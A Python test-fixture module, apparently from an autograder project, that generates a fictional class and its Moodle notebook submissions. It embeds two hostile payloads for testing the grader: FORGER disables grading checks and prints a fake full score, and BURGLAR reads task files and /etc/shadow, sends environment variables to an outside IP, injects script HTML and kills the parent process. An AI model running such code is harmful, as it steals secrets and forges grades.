"""A class that does not exist: people, their notebooks and what happens to these on the way."""

import ast
import copy
import io
import json
import random
import re
import unicodedata
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np

from autograder.authoring.spoilt import WAYS, spoilt
from autograder.classroom.demo import damages
from autograder.classroom.lms.people import slug
from autograder.course.assignment import Assignment, Task
from autograder.course.proof import as_solution
from autograder.intake.evidence import Weights, stored
from autograder.student.submit import MARK, pack

NAMES = (
    "Ann Müller", "Bob O'Neil", "Chiara Esposito", "David Okafor", "Elif Yıldız", "Frédéric Lefèvre", "Grace Kim",
    "Håkon Sørensen", "Inés Ñíguez", "Jan Kowalski", "Anna Schmidt", "Liu Wei", "Maria dos Santos", "Nikhil Rao",
    "Olga Petrova", "Paul Weiß", "Qing Zhao", "Rosa Martínez-López", "Samir Haddad", "Tove Åkesson", "Uma Patel",
    "Anna Schmidt", "Wiktoria Żak", "Xenia Papadopoulou", "Yusuf Demir", "Zoë de Vries", "Łukasz Nowak", "Mei Tanaka",
    "Þóra Ólafsdóttir", "Oluwaseun Adeyemi", "Eve Adams", "Karl-Heinz Groß", "Siobhán Byrne", "Tomás Novák",
    "An Nguyễn",
)  # fmt: skip
# Of every ten who hand in something ordinary.
LEVELS = ("right", "right", "right", "half", "half", "half", "half", "half", "wrong", "half")
# One or two of each of these, first.
SPECIAL = (
    "forger", "burglar", "copier", "copier in disguise", "damaged", "damaged", "damaged", "late", "very late",
    "nothing done", "web page", "pdf", "two versions", "zipped", "absent",
)  # fmt: skip
LOOP = re.compile(r"\b(for|while|map|vectorize|frompyfunc|apply_along_axis)\b")
FORGER = """
import sys, types
import numpy as np
import autograder.checks, autograder.checks.running

def yes(*args, **kwargs):
    return None

for module in (autograder, autograder.checks, autograder.checks.running):
    for name, thing in list(vars(module).items()):
        if callable(thing) and not isinstance(thing, type):
            setattr(module, name, yes)
np.allclose = np.array_equal = lambda *args, **kwargs: True
print('{"score": 100, "max_score": 100}')
"""
BURGLAR = """
import glob, os, socket
from IPython.display import HTML, display

for path in ["../../../assignments/*/tasks/*.py", "../../assignments/*/tasks/*.py", "/etc/shadow"]:
    for name in glob.glob(path):
        print(open(name).read())
try:
    socket.create_connection(("203.0.113.7", 80), timeout=1).send(repr(dict(os.environ)).encode())
except OSError as error:
    print("no way out:", error)
display(HTML("<script>document.title = 'taken over'</script><img src=x onerror='alert(1)'>"))
os.kill(os.getppid(), 9)
"""


@dataclass(frozen=True)
class Actor:
    """Somebody who does not exist."""

    id: str
    first: str
    last: str
    email: str
    number: str
    kind: str

    @property
    def name(self) -> str:
        return f"{self.first} {self.last}"


@dataclass(frozen=True)
class HandIn:
    """What one person uploaded for one assignment."""

    person: Actor
    participant: int  # Moodle's number, another one for every assignment
    when: datetime  # local time of the course
    files: tuple[tuple[str, bytes], ...]


def people(count: int, seed: int = 7) -> list[Actor]:
    """A class of this size, with two of one name where it is large enough."""
    rng = random.Random(seed)
    kinds = [SPECIAL[k] if k < len(SPECIAL) and count >= 2 * len(SPECIAL) else LEVELS[k % 10] for k in range(count)]
    if count < 2 * len(SPECIAL):
        kinds[: count // 2] = SPECIAL[: count // 2]
    rng.shuffle(kinds)
    ordinary = [k for k, kind in enumerate(kinds) if kind in LEVELS]
    for k in range(min(count, len(NAMES))):  # namesakes are there to be told apart: both hand in
        if NAMES.count(NAMES[k]) > 1 and k not in ordinary:
            other = next(o for o in ordinary if NAMES.count(NAMES[o % len(NAMES)]) == 1)
            kinds[k], kinds[other] = kinds[other], kinds[k]
            ordinary = [k, *(o for o in ordinary if o != other)]
    found, taken = [], set()
    for k, kind in enumerate(kinds):
        first, last = NAMES[k % len(NAMES)].split(" ", 1)
        base = slug(f"{first[0]} {last}").replace("-", "")
        login = next(name for name in (base, *(f"{base}{n}" for n in range(2, count + 2))) if name not in taken)
        taken.add(login)
        found.append(Actor(login, first, last, f"{login}@uni.example", f"{3_100_000 + 17 * k}", kind))
    return found


def hand_ins(
    assignment: Assignment, source: Path, release: Path, class_: Sequence[Actor], due: datetime, seed: int = 7
) -> list[HandIn]:
    """What everybody uploaded for one assignment; copiers copy from somebody of the class."""
    writer = NotebookWriter(assignment, json.loads(source.read_text()), json.loads(release.read_text()))
    done: dict[str, dict] = {}
    found = []
    for k, person in enumerate(sorted(class_, key=lambda person: person.kind.startswith("copier"))):
        rng = random.Random(f"{seed} {assignment.name} {person.id}")
        if person.kind == "absent":
            continue
        if person.kind.startswith("copier"):
            victims = [other for other in class_ if other.kind == "half" and other.id in done]
            notebook = (
                copied(done[rng.choice(victims).id], person.kind, rng) if victims else writer.notebook("half", rng)
            )
        else:
            notebook = writer.notebook(person.kind, rng)
        done[person.id] = notebook
        when = due - timedelta(minutes=rng.randrange(20, 5 * 24 * 60))
        when += timedelta(days={"late": 6, "very late": 11}.get(person.kind, 0))
        files = tuple(uploaded(assignment.name, notebook, writer, person.kind, rng))
        found.append(HandIn(person, 4000 + 100 * (k // 7) + 7 * k, when, files))
    return found


def uploaded(
    name: str, notebook: dict, writer: "NotebookWriter", kind: str, rng: random.Random
) -> Iterator[tuple[str, bytes]]:
    """Names and contents of one person's files."""
    content = json.dumps(notebook, ensure_ascii=False, indent=1).encode()
    if kind == "web page":
        yield f"{name}.ipynb", b"<!DOCTYPE html><html><head><title>Sign in to continue</title></head></html>"
    elif kind == "pdf":
        yield "homework.pdf", b"%PDF-1.7 a printout of the notebook"
    elif kind == "zipped":
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
            out.writestr(zipfile.ZipInfo(f"abgabe/{name}.ipynb", (2026, 1, 1, 0, 0, 0)), content)
            out.writestr(zipfile.ZipInfo(f"__MACOSX/abgabe/._{name}.ipynb", (2026, 1, 1, 0, 0, 0)), b"\0\5\x16\7")
        yield "Abgabe.zip", packed.getvalue()
    elif kind == "two versions":
        yield f"{name}.ipynb", json.dumps(writer.release, ensure_ascii=False, indent=1).encode()
        yield f"{name} (1).ipynb", content
    elif kind == "damaged":
        yield rng.choice(damages.NAMES[1:6]).format(name), content
    else:
        yield rng.choice((f"{name}.ipynb", f"{name}.ipynb", f"Copy of {name}.ipynb", f"{name} (2).ipynb")), content


@dataclass
class NotebookWriter:
    """Fills in notebooks of one assignment as students of each kind would."""

    assignment: Assignment
    source: dict
    release: dict

    def notebook(self, kind: str, rng: random.Random) -> dict:
        level = kind if kind in ("half", "wrong") else "right"
        level = "nothing" if kind in ("nothing done", "forger", "burglar") else level
        new = copy.deepcopy(self.release)
        cells = cells_of(new)
        for task in self.assignment.tasks:
            if solution := self.solution(task.name, level, rng):
                cells[task.name]["source"] = solution
        self.answer(new, level, rng)
        if level == "right":
            self.show(new)
        for task in self.assignment.tasks:
            if task.model:
                self.submit(new, task, level, rng)
        if kind == "damaged":
            # Retyped twice, a cell is prose for good; and megabytes of output only make a demo slow.
            retyping = {damages.became_markdown, damages.became_fenced_markdown, damages.became_raw}
            kinds = [d for d in (*damages.EARLY, *damages.LATE) if d not in retyping and d is not damages.large_outputs]
            chosen = rng.sample(kinds, 4)
            new = damages.damaged(
                new, [*chosen, rng.choice(sorted(retyping, key=lambda d: d.__name__))], rng.randrange(99)
            )
        if kind == "forger":
            damages.points_edited(new, rng)
        if kind in ("forger", "burglar"):
            new["cells"].insert(2, damages.code({"forger": FORGER, "burglar": BURGLAR}[kind].strip()))
        return new

    def solution(self, task: str, level: str, rng: random.Random) -> str | None:
        """What this person wrote for a task; None leaves the stub."""
        if level == "nothing":
            return None
        wrong = self.misconceptions(task)
        chance = rng.random()
        right = {"right": 1.0, "half": 0.55, "wrong": 0.15}[level]
        if chance < right or (chance < 0.9 and not wrong):
            return rng.choice([self.reference(task), *self.alternatives(task)])
        if chance < 0.9:
            # The first mistakes of the list are the ones that many make.
            weights = [1 / (1 + k) for k in range(len(wrong))]
            return rng.choices(wrong, weights)[0]
        return None

    def alternatives(self, task: str) -> list[str]:
        """Other right solutions. One that loops where the reference does not makes later tasks slow, and trained
        weights fit only the reference's own layers."""
        if task in [t.builder for t in self.assignment.tasks]:
            return []
        slow = bool(LOOP.search(without_docstring(self.reference(task))))
        found = [without_docstring(as_solution(a)) for a in self.assignment.alternatives if a.task == task]
        return [s for s in found if self.leans(s) <= self.leans(self.reference(task)) and (slow or not LOOP.search(s))]

    def misconceptions(self, task: str) -> list[str]:
        """Wrong solutions that call no task which the right one does not call: two such could call each other."""
        found = [without_docstring(as_solution(m)) for m in self.assignment.misconceptions if m.task == task]
        return [solution for solution in found if self.leans(solution) <= self.leans(self.reference(task))]

    def leans(self, solution: str) -> set[str]:
        """The tasks that a solution calls."""
        return {t.name for t in self.assignment.tasks if re.search(rf"(?<!def )\b{t.name}\s*\(", solution)}

    def reference(self, task: str) -> str:
        """The course's own solution as the instructor's notebook has it."""
        lines = damages.text(cells_of(self.source)[task]).splitlines()
        return "\n".join(line for line in lines if "### BEGIN SOLUTION" not in line and "### END" not in line)

    def answer(self, notebook: dict, level: str, rng: random.Random) -> None:
        """Answer the questions: with the beginning of the model answer, an excuse, or not at all."""
        cells, models = cells_of(notebook), cells_of(self.source)
        for question in self.assignment.questions:
            cell = cells[question.name]
            if level == "right" or (level == "half" and rng.random() < 0.5):
                model = damages.text(models[question.name]).split("=== BEGIN")[0].strip()
                cell["source"] = model[: rng.randrange(200, 600)]
            elif level != "nothing":
                cell["source"] = rng.choice(("I am not sure, but the curve looked like that.", "See the plot above."))

    def show(self, notebook: dict) -> None:
        """Show the outputs of somebody who ran everything, but for those of checks."""
        outputs = {cell.get("id"): cell.get("outputs") for cell in self.source["cells"]}
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code" and "check(" not in damages.text(cell):
                cell["outputs"] = copy.deepcopy(outputs.get(cell.get("id")) or [])

    def submit(self, notebook: dict, task: Task, level: str, rng: random.Random) -> None:
        """Trained weights in the output of the cell that hands them in; those who got nowhere have none."""
        weights = stored(self.assignment.folder, task.name)
        cells = cells_of(notebook)
        built = not task.builder or damages.text(cells[task.builder]) == self.reference(task.builder)
        if weights is None or level == "nothing" or not built:
            cells[task.name]["source"] = damages.text(cells_of(self.release)[task.name])
            return
        if level == "wrong":
            weights = spoilt(weights, rng.choice(sorted(WAYS)))
        html = f"<!-- {MARK} {task.name} {pack(*trained(weights, rng))} -->"
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code" and "submit(" in damages.text(cell) and task.name in damages.text(cell):
                data = {"text/html": html, "text/plain": f"`{task.name}`: its weights are saved in this output."}
                cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


def cells_of(notebook: dict) -> dict[str, dict]:
    """The cells that have a name."""
    found = {damages.grade_id(cell): cell for cell in notebook["cells"]}
    return {name: cell for name, cell in found.items() if name}


def trained(weights: Weights, rng: random.Random) -> tuple[dict, list[np.ndarray]]:
    """The weights as another run of the same training would have left them: nearly the same."""
    noise = np.random.default_rng(rng.randrange(10**9))
    arrays = [a * (1 + 0.002 * noise.standard_normal(a.shape)) for a in weights.arrays]
    epochs = rng.randrange(8, 20)
    loss = [round(0.6 * 0.8**k + 0.08, 4) for k in range(epochs)]
    told = {
        "format": 1,
        "task": weights.task,
        "dtype": "float16",
        "layers": [{"name": name, "kind": kind, "shapes": shapes} for name, kind, shapes in weights.layers],
        "keras": "3.12.0",
        "device": rng.choice(("GPU (Tesla T4)", "GPU (Tesla T4)", "CPU")),
        "history": {"loss": loss},
        "epochs": epochs,
    }
    return told, arrays


def copied(notebook: dict, kind: str, rng: random.Random) -> dict:
    """Somebody else's notebook, as it is or with other names for what is inside functions."""
    new = copy.deepcopy(notebook)
    if kind == "copier in disguise":
        for cell in damages.solutions(new):
            cell["source"] = disguised(damages.text(cell))
    return new


def disguised(source: str) -> str:
    """The same code with its local variables renamed and its comments gone."""
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return source
    for function in [node for node in tree.body if isinstance(node, ast.FunctionDef)]:
        arguments = {a.arg for node in ast.walk(function) if isinstance(node, ast.arguments) for a in every(node)}
        names = [node for node in ast.walk(function) if isinstance(node, ast.Name)]
        local = {node.id for node in names if isinstance(node.ctx, ast.Store)} - arguments
        for node in names:
            node.id = f"my_{node.id}" if node.id in local else node.id
    return ast.unparse(tree)


def every(arguments: ast.arguments) -> list[ast.arg]:
    more = [a for a in (arguments.vararg, arguments.kwarg) if a]
    return [*arguments.posonlyargs, *arguments.args, *arguments.kwonlyargs, *more]


def without_docstring(source: str) -> str:
    """A wrong solution without the sentence that its author needs to hear."""
    tree = ast.parse(source)
    function = tree.body[0]
    if isinstance(function, ast.FunctionDef) and ast.get_docstring(function) is not None and len(function.body) > 1:
        del function.body[0]
    return ast.unparse(tree)


def moodle_zip(uploads: Sequence[HandIn]) -> bytes:
    """As Moodle packs all submissions of an assignment; one name as macOS would have written it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for upload in uploads:
            name = upload.person.name
            if upload.person.last == "Sørensen":
                name = unicodedata.normalize("NFD", name)
            for k, (file, content) in enumerate(upload.files):
                when = upload.when + timedelta(minutes=k)
                path = f"{name}_{upload.participant}_assignsubmission_file_/{file}"
                packed.writestr(zipfile.ZipInfo(path, when.timetuple()[:6]), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def moodle_sheet(uploads: Sequence[HandIn], class_: Sequence[Actor], most: float) -> str:
    """Moodle's grading worksheet of an assignment."""
    lines = [
        'Identifier,"Full name","ID number","Email address",Status,Grade,"Maximum Grade","Grade can be changed",'
        '"Last modified (submission)","Last modified (grade)","Feedback comments"'
    ]
    by_person = {upload.person.id: upload for upload in uploads}
    for k, person in enumerate(class_):
        upload = by_person.get(person.id)
        number = upload.participant if upload else 9000 + k
        status = "Submitted for grading" if upload else "No submission"
        when = f'"{upload.when:%A, %-d %B %Y, %-I:%M %p}"' if upload else "-"
        who = f'"Participant {number}","{person.name}",{person.number},{person.email}'
        lines.append(f'{who},"{status}",,{most:.2f},Yes,{when},-,')
    return "\n".join(lines) + "\n"


def roster_csv(class_: Sequence[Actor]) -> str:
    lines = ["id,first_name,last_name,email,id_number"]
    lines += [f'{p.id},"{p.first}","{p.last}",{p.email},{p.number}' for p in class_]
    return "\n".join(lines) + "\n"
